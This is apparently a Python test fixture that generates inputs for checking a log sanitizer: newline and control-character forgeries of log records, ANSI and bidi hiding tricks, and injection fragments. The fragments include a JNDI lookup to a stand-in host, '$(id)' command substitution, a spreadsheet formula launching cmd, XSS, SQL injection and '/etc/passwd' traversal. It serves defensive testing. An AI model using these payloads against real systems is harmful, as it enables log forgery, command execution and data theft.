"""What would somebody write who wants to forge a log record, hide one, or break whatever reads the log?"""

from collections.abc import Iterator, Sequence

FORGED = "ERROR shared.forged Subscription x is ended"
ENDS = (
    *("\n", "\r", "\r\n", "\n\r", "\n\n\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"),
    *("\\n", "%0a", "%0d%0a", "&#10;", "\\u000a", "\ud800\n", "\x00", "\x00\n", "\n\x00"),
)
HIDDEN = (
    *("\x1b[2K", "\x1b[1A", "\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07", "\x9b31m", "\x08" * 40),
    *("\x7f", "\t", "\u202e", "\u202d", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u180e"),
    *("\ud800", "\udfff", "\udc80", "\ufffe", "\uffff", "\U000e0001", "\U000f0000", "\ue000", "\u0301" * 50),
)
FRAGMENTS = (
    *(
        '"}',
        '"}\n{"level": "ERROR", "message": "forged"}',
        '","action":"refused","x":"',
        "{}",
        "[",
        "null",
        '\\"',
        "\\",
    ),
    *("%s", "%s%s%s%n", "%d", "%", "%%", "%(message)s", "%(levelname)s", "%1000000d", "%.1000000f", "{0}", "{", "{}"),
    *("{record.msg}", "{0.__class__}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "<script>alert(1)</script>"),
    *("=cmd|' /C calc'!A0", "'; DROP TABLE events; --", "| union AppTraces", "../../etc/passwd", "\\\\evil\\share"),
    *("Ærø", "\U0001f4a9", "٣", "ﷺ", "a" * 100_000, "\n" * 20_000, "\u202e" * 20_000, "é" * 20_000),
)


def _texts() -> Iterator[str]:
    for end in ENDS:
        yield f"{end}{FORGED}"
        yield f"a{end}b"
        yield f"{end}{FORGED}{end}{FORGED}{end}"
        yield f"{end}  {FORGED}"
        yield f"a{end}Traceback (most recent call last):{end}ValueError: {FORGED}"
    for hidden in HIDDEN:
        yield f"a{hidden}b"
        yield f"{hidden}\r{FORGED}"
        yield f"{hidden}{hidden}\n{FORGED}{hidden}"
    yield from FRAGMENTS


TEXTS: Sequence[str] = tuple(dict.fromkeys(_texts()))
